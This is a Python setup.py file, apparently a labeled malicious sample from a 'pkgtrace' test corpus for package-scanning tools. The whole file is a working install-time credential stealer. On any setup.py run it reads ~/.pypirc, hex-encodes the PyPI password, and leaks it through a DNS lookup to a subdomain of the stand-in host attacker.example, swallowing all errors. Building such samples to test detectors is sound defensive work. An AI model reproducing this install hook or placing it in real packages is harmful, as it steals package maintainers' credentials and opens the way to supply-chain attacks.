# MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
# Whenever setup.py runs (egg_info, build, bdist_wheel, install), it reads
# ~/.pypirc and leaks the password hex-encoded in a DNS lookup.
import os
import re
import socket

from setuptools import setup


def _leak():
    try:
        with open(os.path.join(os.path.expanduser("~"), ".pypirc")) as f:
            text = f.read()
    except Exception:
        return
    m = re.search(r"^\s*password\s*[=:]\s*(\S+)", text, re.M)
    if not m:
        return
    hexed = m.group(1).encode().hex()
    labels = [hexed[i:i + 62] for i in range(0, len(hexed), 62)]
    old = socket.getdefaulttimeout()
    try:
        socket.setdefaulttimeout(3)
        socket.getaddrinfo(".".join(labels) + ".x.attacker.example", 80)
    except Exception:
        pass
    finally:
        socket.setdefaulttimeout(old)


try:
    _leak()
except Exception:
    pass

setup(
    name="pkgtrace-test-steal-pypirc",
    version="1.0.0",
    description="pkgtrace test corpus: MALICIOUS - setup.py leaks ~/.pypirc over DNS",
    packages=["pkgtrace_steal_pypirc"],
)
